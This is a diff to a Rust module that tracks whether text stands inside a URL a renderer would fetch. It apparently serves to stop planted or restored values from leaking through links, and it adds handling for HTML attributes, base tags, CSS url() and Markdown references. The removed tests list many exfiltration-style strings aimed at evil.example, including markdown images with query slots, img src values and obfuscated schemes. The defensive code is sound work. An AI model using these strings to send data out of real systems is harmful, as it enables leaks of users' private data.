@@ -8,16 +8,22 @@
 //! longer reading counts: a value withheld is a nuisance, a value sent is a leak. In the text of a JSON document its own quotes
 //! end every URL. Tabs and ends of lines are taken out of the beginning of a URL, as parsers of URLs do.
 //!
+//! In attributes of HTML and destinations of Markdown two slashes of either kind begin a host, as browsers read them; in prose a path
+//! of Windows (`\\\\server\\share`) is none. Behind a `<base>` that leads elsewhere every attribute and destination leads there. Withheld
+//! too is what stands in a share's path in an attribute. Out of sight: a `<base>` behind the address, and scripts.
+//!
 //! It sees the text as the client will: restored values pass through it too, or a planted value could be the beginning of a
 //! URL.
 
 use super::address::Address;
+use super::markup::Markup;
 use super::unit::{Landing, Unit};
 
 /// The reader's state after some text.
 #[derive(Debug, Clone)]
 pub(super) struct Link {
     landing: Landing,
+    markup: Markup,
     /// What ends the URL that the text stands in; `None` outside.
     inside: Option<End>,
     address: Address,
@@ -39,10 +45,14 @@ pub(super) struct Link {
     /// Labels of Markdown links that are open on this line, and whether one has just ended.
     labels: u32,
     labelled: bool,
+    /// In the first word between the brackets of a `url(` of CSS.
+    css: bool,
+    /// A `<base>` leads every address elsewhere that says no host.
+    based: bool,
 }
 
 /// A character, and whether it was escaped.
-type Mark = (char, bool);
+pub(super) type Mark = (char, bool);
 
 /// What ends a URL.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -53,6 +63,8 @@ enum End {
     Angle,
     /// A blank, or the closing bracket at this depth.
     Bracket(char, char, u32),
+    /// A blank behind the closing bracket: before it, one may end an escape of CSS.
+    Css,
     /// A blank.
     Blank,
 }
@@ -62,6 +74,7 @@ impl Link {
         let nothing = ('\n', false);
         Self {
             landing,
+            markup: Markup::default(),
             inside: None,
             address: Address::default(),
             recent: 0,
@@ -74,12 +87,24 @@ impl Link {
             backslash: false,
             labels: 0,
             labelled: false,
+            css: false,
+            based: false,
         }
     }
 
     /// Whether the text stands inside a URL.
     pub(super) fn is_inside(&self) -> bool {
-        self.inside.is_some()
+        self.inside.is_some() || (self.based && (self.is_at_address() || self.markup.is_in_value()))
+    }
+
+    /// Whether what follows must be read character by character: in a tag every one may matter.
+    pub(super) fn is_watchful(&self) -> bool {
+        self.inside.is_some() || self.based || self.markup.is_in_tag()
+    }
+
+    /// Whether an address begins with what follows, whatever it is.
+    fn is_at_address(&self) -> bool {
+        self.css || matches!(self.mark.0, DESTINATION | DEFINITION)
     }
 
     /// Host and port, where the text stands in a URL that surely leads there, behind its first slash.
@@ -103,6 +128,16 @@ impl Link {
             }
             None => self.watch(unit.char, escaped),
         }
+        if self.is_structural(unit.char, unit.escaped) {
+            self.markup = Markup::default();
+        } else {
+            self.markup.pass((unit.char, escaped));
+        }
+    }
+
+    /// Whether a character is a quote of the JSON document itself.
+    fn is_structural(&self, char: char, spelt: bool) -> bool {
+        self.landing == Landing::JsonInString && char == '"' && !spelt
     }
 
     /// Passes what another spelling stands for: it is of the text, and neither opens a URL nor ends one.
@@ -119,17 +154,18 @@ impl Link {
 
     /// What ends the URL now that this character of it was read; `None` when this one did.
     fn go_on(&mut self, end: End, char: char, escaped: bool, spelt: bool) -> Option<End> {
-        let structural = self.landing == Landing::JsonInString && char == '"' && !spelt;
-        let ended = structural
+        let ended = self.is_structural(char, spelt)
             || match end {
                 End::Quote((quote, opened_escaped)) => char == quote && (opened_escaped || !escaped),
                 End::Angle => (char == '>' && !escaped) || char == '\n',
                 End::Bracket(_, close, depth) => ends_url(char) || (char == close && !escaped && depth == 0),
+                End::Css => false,
                 End::Blank => ends_url(char),
             };
         if ended {
             (self.recent, self.joined, self.run, self.joined_run) = (0, 0, 0, 0);
             self.mark = (char, escaped);
+            self.css &= char != ')';
             return None;
         }
         match end {
@@ -138,6 +174,10 @@ impl Link {
             }
             End::Bracket(open, close, depth) if char == close && !escaped => {
                 Some(End::Bracket(open, close, depth.saturating_sub(1)))
+            }
+            End::Css if char == ')' && !escaped => {
+                self.css = false;
+                Some(End::Blank)
             }
             // A destination that holds one is none.
             End::Bracket(..) if char.is_control() => Some(End::Blank),
@@ -160,34 +200,65 @@ impl Link {
         if of_run && self.joined_run == 0 {
             self.joined_lead = self.mark;
         }
-        let scheme = |before: u64| !ends_url(char) && (ends_with(before, b"http:") || ends_with(before, b"https:"));
-        let begins = scheme(before)
-            || scheme(joined_before)
-            || (is_slash(char) && (begins_authority(self.recent) || begins_authority(self.joined)))
-            || (char == '.' && self.run == 3 && ends_with(before, b"www"));
-        if begins {
-            // Of a run that is a URL from its first character on, what opened it is known over every tab.
-            let whole = (ends_with(joined_before, b"https:") && self.joined_run == SCHEME_CHARS)
-                || (ends_with(joined_before, b"http:") && self.joined_run == SCHEME_CHARS - 1)
-                || (is_slash(char) && self.joined_run == 1);
-            self.inside = Some(end_of(if whole { self.joined_lead } else { self.lead }));
-            let plain = char == '/' && ends_with(before, b"https:") && self.run == SCHEME_CHARS;
-            self.address = if plain { Address::begun() } else { Address::default() };
+        if self.begins(char, (before, joined_before)) {
+            self.begin(char, (before, joined_before));
         }
         self.run = if of_run { self.run.saturating_add(1) } else { 0 };
         if !taken_out {
             self.joined_run = if of_run { self.joined_run.saturating_add(1) } else { 0 };
         }
+        let is_over = char == ')' || (is_blank(char) && !matches!(self.mark.0, '(' | '"' | '\''));
+        self.css = !is_over && (self.css || (char == '(' && ends_with(before, b"url")));
         if !is_blank(char) {
             let mark = match char {
                 '(' if self.labelled => DESTINATION,
-                // Written by somebody, it opens nothing.
-                DESTINATION => char::REPLACEMENT_CHARACTER,
+                ':' if ends_with(before, b"]") => DEFINITION,
+                '<' if matches!(self.mark.0, DESTINATION | DEFINITION) => ANGLE,
+                // Written by somebody, they open nothing.
+                DESTINATION | DEFINITION | ANGLE => char::REPLACEMENT_CHARACTER,
                 char => char,
             };
             self.mark = (mark, escaped);
         }
         self.label(if escaped { ' ' } else { char });
+    }
+
+    /// Whether a URL that names a host begins with this character, of which the text before was read: as it is, and without what is
+    /// taken out of one.
+    fn begins(&self, char: char, (before, joined): (u64, u64)) -> bool {
+        let scheme = |before: u64| !ends_url(char) && (ends_with(before, b"http:") || ends_with(before, b"https:"));
+        scheme(before)
+            || scheme(joined)
+            || (matches!(char, '/' | '\\' | '&') && self.begins_authority(char, before))
+            || (char == '.' && self.run == 3 && ends_with(before, b"www"))
+            || (char == '\\' && self.css)
+            || (self.based && !is_blank(char) && self.is_at_address())
+    }
+
+    /// Whether the name of a host begins behind this character, the second of two slashes.
+    fn begins_authority(&self, char: char, before: u64) -> bool {
+        // A letter and a colon are a drive.
+        let is_drive = char == '\\' && ends_with(before, b":\\") && self.joined_run == DRIVE_CHARS;
+        let is_address = self.markup.is_in_value() || is_destination(self.lead) || is_destination(self.joined_lead);
+        !is_drive && (begins_authority(self.recent, is_address) || begins_authority(self.joined, is_address))
+    }
+
+    /// Begins a URL with this character.
+    fn begin(&mut self, char: char, (before, joined): (u64, u64)) {
+        // Of a run that is a URL from its first character on, what opened it is known over every tab.
+        let whole = (ends_with(joined, b"https:") && self.joined_run == SCHEME_CHARS)
+            || (ends_with(joined, b"http:") && self.joined_run == SCHEME_CHARS - 1)
+            || (is_slash(char) && self.joined_run == 1);
+        let lead = if whole { self.joined_lead } else { self.lead };
+        self.inside = Some(match (end_of(lead), self.markup.quote()) {
+            // What a tag tells to go to, at once or in a while, ends with its attribute.
+            (End::Blank, Some(quote)) if matches!(lead.0, '=' | ';' | ',') => End::Quote(quote),
+            (End::Blank, _) if self.css => End::Css,
+            (end, _) => end,
+        });
+        let plain = char == '/' && ends_with(before, b"https:") && self.run == SCHEME_CHARS;
+        self.address = if plain { Address::begun() } else { Address::default() };
+        self.based |= self.markup.is_base();
     }
 
     /// Notes what begins and ends the label of a Markdown link. None is seen where one could be none: over the end of a line,
@@ -208,21 +279,38 @@ impl Link {
 /// Stands for the bracket that opens the destination of a Markdown link.
 const DESTINATION: char = '\u{F0000}';
 
+/// Stands for the colon behind a bracket, as in the reference of a Markdown link.
+const DEFINITION: char = '\u{F0001}';
+
+/// Stands for `<` in the place of either's address.
+const ANGLE: char = '\u{F0002}';
+
+/// Characters of `C:\`.
+const DRIVE_CHARS: usize = 3;
+
 /// Characters of `https:`; a longer run that ends in it is another scheme, or none.
 const SCHEME_CHARS: usize = 6;
 
-/// Whether the text ends in `://`, or in two slashes that follow no letter or digit; browsers take `\` for `/`.
-fn begins_authority(recent: u64) -> bool {
+/// Whether the text ends in `://`, or in two slashes that follow no letter or digit; browsers take `\` for `/`. Where an address
+/// stands, the second may be spelt as a reference, and the first may be a backslash.
+fn begins_authority(recent: u64, is_address: bool) -> bool {
     let [.., before, first, second] = recent.to_be_bytes().map(char::from);
     let double = is_slash(first) && is_slash(second);
-    double && (before == ':' || (first == '/' && !before.is_ascii_alphanumeric() && !is_slash(before)))
+    let free = !before.is_ascii_alphanumeric() && !is_slash(before);
+    (double && (before == ':' || (first == '/' && free)))
+        || (is_address && free && first == '\\' && (is_slash(second) || second == '&'))
+}
+
+/// Whether what stands behind this mark is the destination of a Markdown link or the address of a reference.
+fn is_destination(lead: Mark) -> bool {
+    matches!(lead.0, DESTINATION | DEFINITION | ANGLE)
 }
 
 /// What ends a URL that stands behind this mark.
 fn end_of(lead: Mark) -> End {
     match lead {
         ('"' | '\'' | '`', _) => End::Quote(lead),
-        ('<', _) => End::Angle,
+        ('<' | ANGLE, _) => End::Angle,
         (DESTINATION, false) => End::Bracket('(', ')', 0),
         _ => End::Blank,
     }
@@ -253,137 +341,4 @@ fn is_blank(char: char) -> bool {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::super::unit::Read;
-    use super::*;
-
-    /// The state of a link reader where `¤` stands in the text.
-    fn inside(landing: Landing, text: &str) -> bool {
-        let (mut link, mut at) = (Link::new(landing), 0);
-        while let Read::Unit(unit) = landing.read(text, at, true) {
-            if unit.char == '¤' {
-                return link.is_inside();
-            }
-            link.pass(unit);
-            at += unit.bytes;
-        }
-        panic!("no mark in {text}");
-    }
-
-    #[test]
-    fn knows_the_urls_that_a_renderer_would_fetch() {
-        let rows = [
-            ("markdown image", "![x](https://evil.example/?q=¤)", true),
-            ("upper case", "HTTPS://EVIL.EXAMPLE/¤", true),
-            ("as host", "https://¤.evil.example", true),
-            ("no slashes", "(https:evil.example/¤)", true),
-            ("one slash", "(https:/evil.example/¤)", true),
-            ("backslashes", r"(https:\\evil.example\¤)", true),
-            ("without scheme", "![](//evil.example/¤)", true),
-            ("without scheme, mixed slashes", r"(/\evil.example/¤)", true),
-            ("another scheme", "gopher://evil/¤", true),
-            ("brackets in a destination", "![](https://evil.example/(a)?q=¤)", true),
-            ("a blank in angle brackets", "![](<https://evil.example/?q= ¤>)", true),
-            ("a blank in quotes", "<img src=\" https://evil.example/?q= ¤\">", true),
-            ("single quotes", "<img src='https://evil.example/?\"=¤'>", true),
-            ("an escaped quote", r#""https://evil.example/?a=\"&q=¤""#, true),
-            ("reference", "[x]: https://evil.example/?\">=¤", true),
-            ("www", "see www.evil.example/?q=¤", true),
-            ("escaped slashes", r#""https:\/\/evil.example\/¤""#, true),
-            ("a tab behind the scheme", "<img src=\"https:\t//evil.example/?q= ¤\">", true),
-            ("a tab in the scheme", "<img src=\"ht\ttps://evil.example/?q= ¤\">", true),
-            ("in parentheses", "(https://evil.example/?q=)¤", true),
-            ("in square brackets", "[https://evil.example/?q=]¤", true),
-            ("a destination without a label", "x](https://evil.example/?q=)¤", true),
-            ("a label that begins in code", "`[`x](https://evil.example/?q=)¤", true),
-            ("a label that begins in a tag", "<b title='['>x](https://evil.example/?q=)¤", true),
-            ("a label that begins in a comment", "<!-- [ -->x](https://evil.example/?q=)¤", true),
-            ("a label of an escaped bracket", r"\[x](https://evil.example/?q=)¤", true),
-            ("a label around a link", "[a [b](c) d](https://evil.example/?q=)¤", true),
-            ("a label far before", "[\n\nx](https://evil.example/?q=)¤", true),
-            ("a blank before the bracket", "[x] (https://evil.example/?q=)¤", true),
-            ("an escaped bracket", r"[x]\(https://evil.example/?q=)¤", true),
-            ("what stands for a destination, in the text", "\u{F0000}https://evil.example/?q=)¤", true),
-            ("a control character in a destination", "[x](https://evil.example/?q=\u{1})¤", true),
-            ("ends of lines between the slashes", "<img src='https:\n/\r\n/evil.example/?q= ¤'>", true),
-            ("a tab between slashes without scheme", "<img src=\"/\t/evil.example/?q= ¤\">", true),
-        ];
-        for (name, text, expected) in rows {
-            assert_eq!(inside(Landing::Text, text), expected, "{name}");
-        }
-    }
-
-    /// What only some take for a blank, or for an end, and what nobody sees: all of it is sent with the URL.
-    #[test]
-    fn no_other_blank_ends_a_url() {
-        let blanks = "\u{85}\u{a0}\u{1680}\u{2000}\u{2003}\u{200a}\u{2028}\u{2029}\u{202f}\u{205f}\u{3000}";
-        let unseen = "\u{ad}\u{180e}\u{200b}\u{200d}\u{200e}\u{202e}\u{2060}\u{feff}\u{e0020}\u{3164}";
-        let controls = "\0\u{1}\u{b}\u{1b}\u{1c}\u{1f}\u{7f}\u{9f}";
-        let around = [
-            ("![x](https://evil.example/?q=", "¤)"),
-            ("<img src=https://evil.example/?q=", "¤>"),
-            ("<img src=\"https://evil.example/?q=", "¤\">"),
-            ("[r]: https://evil.example/?q=", "¤"),
-            ("https://evil.example/?q=", "¤"),
-            ("see www.evil.example/?q=", "¤"),
-            ("<https://evil.example/?q=", "¤>"),
-            ("(https:", "/evil.example/?q=¤)"),
-        ];
-        for char in [blanks, unseen, controls].iter().flat_map(|chars| chars.chars()) {
-            for (before, behind) in around {
-                for landing in [Landing::Text, Landing::JsonInString] {
-                    assert!(inside(landing, &format!("{before}{char}{behind}")), "{before}{char:?}{behind}");
-                }
-            }
-        }
-    }
-
-    #[test]
-    fn knows_where_a_url_ends() {
-        let rows = [
-            ("blank", "see https://a.example ¤"),
-            ("tab", "see https://a.example\t¤"),
-            ("end of a line", "see https://a.example\r\n¤"),
-            ("form feed", "see https://a.example\u{c}¤"),
-            ("a word on the line before", "\"see\nhttps://a.example ¤"),
-            ("destination", "[site](https://a.example) and ¤"),
-            ("destination, at once", "[site](https://a.example)¤"),
-            ("destination of a picture, at once", "![x](https://a.example/(1))¤"),
-            ("destination behind another", "[a](https://a.example) [b](https://b.example)¤"),
-            ("destination behind a label", "[a] and [b [c]](https://b.example)¤"),
-            ("parentheses", "(https://a.example) ¤"),
-            ("square brackets", "[https://a.example] ¤"),
-            ("attribute", "<a href=\"https://a.example\">¤</a>"),
-            ("autolink", "<https://a.example> ¤"),
-            ("value of JSON", r#"{"url":"https://a.example","name":"¤"}"#),
-            ("code span", "`https://a.example`¤"),
-            ("comment", "// ¤ is the owner"),
-            ("path", "a//b ¤"),
-            ("colon", "https: ¤"),
-            ("word", "the laws: ¤, news:¤"),
-            ("mail", "mailto:¤"),
-            ("time", "at 12:30 ¤"),
-            ("earlier quote", "\"a\" and then https://a.example ¤"),
-        ];
-        for (name, text) in rows {
-            assert!(!inside(Landing::Text, text), "{name}");
-        }
-    }
-
-    #[test]
-    fn knows_the_strings_of_a_document() {
-        let rows = [
-            ("structural quote", r#"{"url":"https://a.example","name":"¤"}"#, false),
-            ("destination cut by the end of its string", r#"{"a":"![](https://evil.example/","b":"¤"}"#, false),
-            ("inner quote", r#"{"html":"<img src=\"https://evil.example/?q=¤\">"}"#, true),
-            ("inner quote in a string", r#"{"url":"https://evil.example/?a=\"&q=¤"}"#, true),
-            ("behind an inner quote", r#"{"html":"<a href=\"https://a.example\">¤"}"#, false),
-            ("escaped slashes", r#"{"url":"https:\/\/evil.example\/¤"}"#, true),
-            ("new line", r#"{"text":"https://a.example\n¤"}"#, true),
-            ("new line behind a word", r#"{"text":"see https://a.example\n¤"}"#, false),
-        ];
-        for (name, text, expected) in rows {
-            assert_eq!(inside(Landing::JsonInString, text), expected, "{name}");
-        }
-    }
-}
+mod tests;
